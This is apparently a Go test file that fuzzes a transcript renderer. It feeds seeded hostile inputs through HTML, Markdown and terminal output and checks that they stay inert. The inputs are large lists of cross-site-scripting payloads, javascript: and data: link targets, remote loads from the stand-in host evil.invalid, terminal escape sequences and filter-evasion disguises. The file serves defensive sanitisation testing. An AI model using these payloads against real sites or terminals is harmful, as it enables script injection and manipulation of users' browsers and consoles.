package render

import (
	"encoding/json"
	"fmt"
	"html"
	"math/rand/v2"
	"strings"
	"testing"

	"github.com/tidemark-sessions/tidemark"
)

// The hostile corpus: transcripts that try to run, load, follow, hide, reorder
// or break out. They are made from a seed, so that a failure can be repeated,
// by putting payloads into contexts into disguises.

// payloads run when they get through. pwn is what a browser test listens for.
const pwn = "window.__pwned=1;alert(1)"

var payloads = []string{
	"<script>" + pwn + "</script>", "<SCRIPT SRC=https://evil.invalid/x.js></SCRIPT>", "<scr<script>ipt>" + pwn + "</scr</script>ipt>",
	"<script\x00>" + pwn + "</script>", "<script/x>" + pwn + "</script\t>", "<script>" + pwn + "<!--", "<<script>" + pwn + "//<</script>",
	"<img src=x onerror=" + pwn + ">", "<img src=`x`onerror=" + pwn + ">", "<IMG \"\"\"><SCRIPT>" + pwn + "</SCRIPT>\">",
	"<img src=https://evil.invalid/p.png srcset='https://evil.invalid/q.png 2x'>", "<img/src/onerror=" + pwn + ">",
	"<svg onload=" + pwn + ">", "<svg><script>" + pwn + "</script></svg>", "<svg><animate onbegin=" + pwn + " attributeName=x dur=1s>",
	"<svg><use href='data:image/svg+xml;base64,PHN2Zy8+#x'></svg>", "<svg><style><img src=x onerror=" + pwn + "></style>",
	"<math><mtext><table><mglyph><style><!--</style><img title=\"--><img src=x onerror=" + pwn + ">\">",
	"<math href='javascript:" + pwn + "'>x</math>", "<body onload=" + pwn + ">", "<details open ontoggle=" + pwn + ">",
	"<input autofocus onfocus=" + pwn + ">", "<video><source onerror=" + pwn + "></video>", "<audio src=https://evil.invalid/a.mp3 autoplay>",
	"<iframe src='javascript:" + pwn + "'></iframe>", "<iframe srcdoc='<script>parent." + pwn + "</script>'></iframe>",
	"<object data='data:text/html,<script>" + pwn + "</script>'>", "<embed src=https://evil.invalid/e.swf>",
	"<meta http-equiv=refresh content='0;url=https://evil.invalid/'>", "<meta http-equiv=refresh content='0;url=javascript:" + pwn + "'>",
	"<base href=https://evil.invalid/>", "<link rel=stylesheet href=https://evil.invalid/x.css>", "<link rel=prefetch href=https://evil.invalid/>",
	"<style>@import 'https://evil.invalid/x.css';body{background:url(https://evil.invalid/b)}</style>",
	"</style><script>" + pwn + "</script>", "</title><script>" + pwn + "</script>", "</pre></code><script>" + pwn + "</script>",
	"</details></article></main><script>" + pwn + "</script>", "</summary><img src=x onerror=" + pwn + ">", "</textarea></noscript><svg onload=" + pwn + ">",
	"<form action=https://evil.invalid/><button autofocus>x</button></form>", "<form><button formaction='javascript:" + pwn + "'>x",
	"<template><script>" + pwn + "</script></template>", "<template shadowrootmode=open><img src=x onerror=" + pwn + "></template>",
	"<noscript><p title=\"</noscript><img src=x onerror=" + pwn + ">\">", "<plaintext>", "<xmp><script>" + pwn + "</script></xmp>",
	"<!--><script>" + pwn + "</script>-->", "<!-- --!><script>" + pwn + "</script>", "<![CDATA[><script>" + pwn + "</script>]]>", "<?xml ?><script>" + pwn + "</script>",
	"\"><script>" + pwn + "</script>", "' onmouseover='" + pwn, "\" autofocus onfocus=\"" + pwn, "` onload=" + pwn, "x\" style=\"background:url(https://evil.invalid/s)",
	"<a href='javascript:" + pwn + "'>x</a>", "<div style='background:url(https://evil.invalid/c)'>", "<div style=width:expression(" + pwn + ")>",
	"<marquee onstart=" + pwn + ">", "<isindex type=image src=1 onerror=" + pwn + ">", "<portal src=https://evil.invalid/>", "<frameset onload=" + pwn + ">",
	"\ufeff<script>" + pwn + "</script>", "＜script＞" + pwn + "＜/script＞", "<ſcript>" + pwn + "</ſcript>", "+ADw-script+AD4-" + pwn + "+ADw-/script+AD4-",
	"<1`@b.c><script>" + pwn + "</script>`", "http://a.b/`<script>" + pwn + "</script>`", "&#60;script&#62;" + pwn + "&#60;/script&#62;", "{{constructor.constructor('" + pwn + "')()}}",
}

// goals are where links should not lead.
var goals = []string{
	"javascript:" + pwn, "JaVaScRiPt:" + pwn, "javascript&colon;" + pwn, "javascript&#58;" + pwn, "javascript&#x3A;" + pwn, "&#106;avascript:" + pwn,
	"&#x6A&#x61vascript:" + pwn, "java\tscript:" + pwn, "java&Tab;script:" + pwn, "java&NewLine;script:" + pwn, "java\nscript:" + pwn, "\x01javascript:" + pwn,
	" javascript:" + pwn, "&nbsp;javascript:" + pwn, "\u00a0javascript:" + pwn, "\u2028javascript:" + pwn, "javascript\\:" + pwn, "\\javascript:" + pwn,
	"%6Aavascript:" + pwn, "javascript%3A" + pwn, "javascript://x.y/%0A" + pwn, "feed:javascript:" + pwn, "view-source:javascript:" + pwn, "jar:javascript:" + pwn,
	"data:text/html,<script>" + pwn + "</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "DATA:image/svg+xml,<svg onload=" + pwn + ">", "data&colon;text/html,x",
	"vbscript:msgbox(1)", "VBScript&#58;msgbox(1)", "file:///etc/passwd", "//evil.invalid/x", "\\\\evil.invalid\\x", "/\\evil.invalid", "?x", "#e1", "../x", "blob:https://evil.invalid/x",
	"https://evil.invalid/\"onmouseover=\"" + pwn, "https://evil.invalid/'><script>" + pwn + "</script>", "https://evil.invalid/\u202egpj.exe", "mailto:a@b.c\"onclick=" + pwn,
	"http:javascript:" + pwn, "https:\\\\evil.invalid", "ws://evil.invalid", "about:blank", "chrome://crash", "intent://x#Intent;end", "ms-msdt:/id", "x-apple:1",
}

// links put a goal into Markdown.
var links = []string{
	"[x](%s)", "[x](<%s>)", "[x]( %s 'title')", "![x](%s)", "![x](<%s> \"t\")", "[![x](%s)](%s)", "[x]\n\n[x]: %s", "[x]: %s \"t\"\n\n[x][] ![x][]", "[x]: <%s>\n[y][x]",
	"<%s>", "[`x]: %s '`'\n\n[`x]", "[a\nb `x]: %s '`'\n", "[[x](%s)](%s)", "[x [y](%s) z](%s)", "![[x](%s)](%s)", "[x](\n%s\n)", "> [x](%s)", "- [x](%s)\n  [y]: %s\n  [y]",
	"[^1]: %s\n\nx[^1]", "| [x](%s) | y |\n|---|---|\n| ![x](%s) | `%s` |", "**[x](%s**)", "[x](%s \"\n<script>\")", "%s", "see %s.", "www.%s", "[x][%s]", "[%s]", "# [x](%s)", "~~[x](%s)~~",
	"[x](%s){onclick=alert(1)}", "# x {#id onclick=alert(1)}", "<mailto:%s>", "[<%s>](https://a.b/)", "[https://a.b](%s)",
}

// contexts put text where something else may be thought to be open.
var contexts = []string{
	"%s", "text %s text", "`%s`", "`` ` %s ``", "```\n%s\n```", "```html\n%s", "~~~\n%s\n```\n~~~", "````\n```\n%s\n````", "    %s", "\t%s", "> %s", "> > - %s", "- %s", "1. %s", "- - > %s",
	"- a\n\n  ```\n  %s\n  ```", "- ```\n%s\n  ```", "- a\n\n     ```\n  ```\n  %s", "para\n    ```\n    %s", "> ```\n%s", "1. ```html\n   %s\n   ```", "x ` y\n` %s ` z", "\\`%s`", "| ` | %s | ` |\n|-|-|-|",
	"| a | b |\n|---|---|\n| %s | `%s` |", "# %s", "%s\n===", "%s\n---", "*%s*", "**_%s_**", "~~%s~~", "<div>\n%s\n\n%s", "<!-- %s", "<!--\n\n%s\n-->", "$ ` $ %s `", "$$\n%s\n$$", "[^a]: %s",
	"[x]: /u \"\n%s\"", "``` `\n%s\n```", "```\n%s\n   ````", "   ```\n%s\n    ```\n%s", "- [ ] %s", "\\%s", "\\\\%s", "a\\\n%s", "&lt;%s", "%s\r\n%s", "%s\x00%s", "::: x\n%s\n:::", "%%%% %s %%%%", "{{ %s }}",
}

// sequences act on a terminal or on how text reads.
var sequences = []string{
	"\x1b]0;pwned\x07", "\x1b]52;c;cHduZWQ=\x1b\\", "\x1b]8;;https://evil.invalid\x1b\\x\x1b]8;;\x1b\\", "\x1bP+q544e\x1b\\", "\x1b_Gi=1;AAAA\x1b\\", "\x1b^x\x1b\\", "\x1bX\x1b\\", "\x1b[2J\x1b[H", "\x1b[?1049h",
	"\x1b[6n", "\x1b[31m", "\x1bc", "\x9b31m", "\u009b31m", "\u009d0;x\u009c", "\x90x\x9c", "\r", "\b\b\b", "\x7f", "\x0e", "\x00", "\xff\xfe", "\xc0\xbc", "\xed\xa0\x80", "\xf8\x88\x80\x80\x80",
	"\u202e", "\u202d\u202c", "\u2066\u2069", "\u2067", "\u200f", "\u061c", "\u200b", "\u200d", "\u2060", "\ufeff", "\u00ad", "\u2028", "\u2029", "\U000e0041", "\ufe0f\ufe0f", "&#x202e;", "&rlm;", "&#27;[2J", "&zwj;", "&ZeroWidthSpace;", "&#0;", "&#xd800;", "&#1114112;", "&shy;",
}

// corpus makes hostile things from a seed.
type corpus struct{ *rand.Rand }

func newCorpus(seed uint64) corpus { return corpus{rand.New(rand.NewPCG(seed, 7))} }

func (c corpus) of(all []string) string { return all[c.IntN(len(all))] }

// fill puts s at each %s of a pattern.
func fill(pattern, s string) string {
	return strings.ReplaceAll(strings.ReplaceAll(pattern, "%s", s), "%%", "%")
}

// disguise hides what s is in one of the ways that filters fall for.
func (c corpus) disguise(s string) string {
	switch c.IntN(12) {
	case 0:
		return strings.ToUpper(s)
	case 1:
		return html.EscapeString(s)
	case 2:
		var b strings.Builder
		for _, r := range s {
			if c.IntN(4) == 0 {
				fmt.Fprintf(&b, "&#x%x;", r)
			} else {
				b.WriteRune(r)
			}
		}
		return b.String()
	case 3:
		i := c.IntN(len(s) + 1)
		return s[:i] + c.of(sequences) + s[i:]
	case 4:
		i := c.IntN(len(s) + 1)
		return s[:i] + c.of([]string{"\n", "\t", "\n\n", "\\", "`", "|", "<", ">", "\"", "'", "]", "](", "```\n", "\n> ", "\n- ", "&", "\r\n"}) + s[i:]
	case 5:
		return strings.ReplaceAll(s, "<", "<\n")
	case 6:
		return s[c.IntN(len(s)):]
	case 7:
		return strings.ReplaceAll(s, " ", "/")
	}
	return s
}

// text returns a few hostile lines.
func (c corpus) text() string {
	var b strings.Builder
	for range 1 + c.IntN(4) {
		s := c.disguise(c.of(payloads))
		switch c.IntN(4) {
		case 0:
			s = fill(c.of(links), c.disguise(c.of(goals)))
		case 1:
			s = c.of(sequences) + s + c.of(sequences)
		}
		for range 1 + c.IntN(2) {
			s = fill(c.of(contexts), s)
		}
		b.WriteString(s)
		b.WriteString(c.of([]string{"\n", "\n\n", " ", ""}))
	}
	return b.String()
}

func (c corpus) block(depth int) tidemark.Block {
	types := []string{tidemark.BlockText, tidemark.BlockText, tidemark.BlockThinking, tidemark.BlockToolUse, tidemark.BlockToolResult,
		tidemark.BlockImage, tidemark.BlockFile, c.of(payloads)}
	b := tidemark.Block{Type: c.of(types), Text: c.text(), IsError: c.IntN(2) == 0}
	if c.IntN(8) == 0 {
		b.Text = ""
	}
	b.ID, b.ToolUseID, b.Name, b.Provider, b.Raw = c.of(payloads), c.of(payloads), c.disguise(c.of(payloads)), c.of(payloads), c.of(payloads)
	b.URL = c.disguise(c.of(goals))
	b.MediaType = c.of([]string{"image/png", "image/svg+xml", "text/html", "image/png\" onerror=\"" + pwn, "image/gif;base64,x", "IMAGE/JPEG"})
	if c.IntN(2) == 0 {
		b.Data = []byte(c.of(payloads))
	}
	switch c.IntN(4) {
	case 0:
		b.Input = json.RawMessage(c.text())
	case 1:
		b.Input, _ = json.Marshal(map[string]any{"old_string": c.text(), "new_string": c.text(), c.of(payloads): c.text()})
	case 2:
		b.Input, _ = json.Marshal(map[string]any{c.of(payloads): []any{c.text(), 1, nil}, "edits": []any{map[string]string{"oldText": c.text(), "newText": c.text()}}})
	}
	for range c.IntN(3 - min(depth, 2)) {
		b.Blocks = append(b.Blocks, c.block(depth+1))
	}
	return b
}

// transcript returns a hostile session. A sequence is cut in two over blocks,
// and over entries.
func (c corpus) transcript(first int64, entries int) (Document, []tidemark.Entry) {
	var all []tidemark.Entry
	for i := range entries {
		e := tidemark.Entry{Seq: first + int64(i), At: noon, Kind: tidemark.KindMessage, Role: tidemark.Role(c.of([]string{"user", "assistant", "tool", "system", c.of(payloads)})), Model: c.disguise(c.of(payloads))}
		if c.IntN(6) == 0 {
			e.Kind, e.Role = c.of([]string{tidemark.KindBranch, tidemark.KindGap, "damaged", c.of(payloads)}), ""
		}
		for range 1 + c.IntN(3) {
			e.Blocks = append(e.Blocks, c.block(0))
		}
		s := c.of(sequences) + c.of(payloads)
		cut := c.IntN(len(s))
		e.Blocks = append(e.Blocks, tidemark.Text(s[:cut]), tidemark.Text(s[cut:]))
		all = append(all, e)
	}
	d := Document{
		Session: tidemark.Session{ID: tidemark.SessionID(c.of(payloads)), Title: c.disguise(c.of(payloads)), Agent: c.of(payloads), Model: c.of(payloads),
			Project: c.of(goals), Tags: []string{c.of(payloads), c.of(sequences)}, ForeignID: c.of(payloads), CreatedAt: noon},
		State: c.of(payloads), Node: c.of(payloads), Labels: map[int64]string{first: c.disguise(c.of(payloads))},
		Tree: []Node{{Number: 0, Parent: -1, Seq: first, Label: c.disguise(c.of(payloads))}, {Number: 1, Parent: 0, Label: c.of(sequences)}},
	}
	return d, all
}

func TestNoHostileTranscriptGetsThrough(t *testing.T) {
	for seed := range uint64(hostileCount(t)) {
		c := newCorpus(seed)
		d, all := c.transcript(1, 2)
		page := document(t, HTML, d, all...)
		if err := scanPage(page); err != nil {
			t.Fatalf("seed %d: HTML: %v", seed, err)
		}
		md := document(t, Markdown, d, all...)
		if err := scanMarkdown(md, len(all)); err != nil {
			t.Fatalf("seed %d: Markdown: %v", seed, err)
		}
		var term strings.Builder
		for _, e := range all {
			if err := Entry(&term, e, nil); err != nil {
				t.Fatal(err)
			}
		}
		for name, out := range map[string]string{"html": page, "md": md, "terminal": term.String()} {
			if Clean(out) != out {
				t.Fatalf("seed %d: %s is not clean", seed, name)
			}
			for _, r := range out {
				if r != '\n' && r != '\t' && !harmless(r) {
					t.Fatalf("seed %d: %s holds %U", seed, name, r)
				}
			}
		}
	}
}

func TestEveryPayloadInEveryContextStaysText(t *testing.T) {
	// All of the links with all of the goals in all of the contexts are a
	// hundred thousand; one in seven a run of the default, by turns.
	step := 7
	if testing.Short() {
		step = 50
	}
	n := 0
	for _, context := range contexts {
		for _, p := range payloads {
			checkText(t, fill(context, p))
		}
		for _, link := range links {
			for _, goal := range goals {
				if n++; n%step == 0 {
					checkText(t, fill(context, fill(link, goal)))
				}
			}
		}
	}
}

// checkText renders s as the text of a message, and as everything else that
// can hold a text, and looks at the outcome.
func checkText(t interface{ Fatalf(string, ...any) }, s string) {
	h := strings.Builder{}
	e := tidemark.Entry{Seq: 3, Kind: tidemark.KindMessage, Role: tidemark.User, Blocks: []tidemark.Block{tidemark.Text(s)}}
	if err := (&Transcript{}).Entry(&h, e); err != nil {
		t.Fatalf("%v", err)
	}
	if err := scanTags(h.String(), nil); err != nil {
		t.Fatalf("of %q: %v", s, err)
	}
	if h := h.String(); Clean(h) != h {
		t.Fatalf("of %q: %q is not clean", s, h)
	}
	var m strings.Builder
	if err := Markdown(&m, Document{}, read(e, e)); err != nil {
		t.Fatalf("%v", err)
	}
	if err := scanMarkdown(m.String(), 2); err != nil {
		t.Fatalf("of %q: %v in\n%s", s, err, m.String())
	}
}

func FuzzTextOfMessages(f *testing.F) {
	c := newCorpus(1)
	for range 40 {
		f.Add(c.text())
	}
	f.Fuzz(func(t *testing.T, s string) { checkText(t, s) })
}

func FuzzToolInput(f *testing.F) {
	f.Add([]byte(`{"old_string":"a\nb","new_string":"a\nc","n":[1,{"x":"]}"}]}`))
	f.Add([]byte(`{"edits":[{"oldText":"a","newText":"b"},{"old_str":"`))
	f.Add([]byte(`[[[{"a`))
	f.Fuzz(func(t *testing.T, input []byte) {
		e := answer(tidemark.Block{Type: tidemark.BlockToolUse, Name: "edit", Input: input})
		if err := scanPage(document(t, HTML, Document{}, e)); err != nil {
			t.Fatal(err)
		}
		document(t, Markdown, Document{}, e)
		if json.Valid(input) {
			if again := appendJSON(nil, input); !sameJSON(input, again) {
				t.Fatalf("%s became %s", input, again)
			}
		}
	})
}
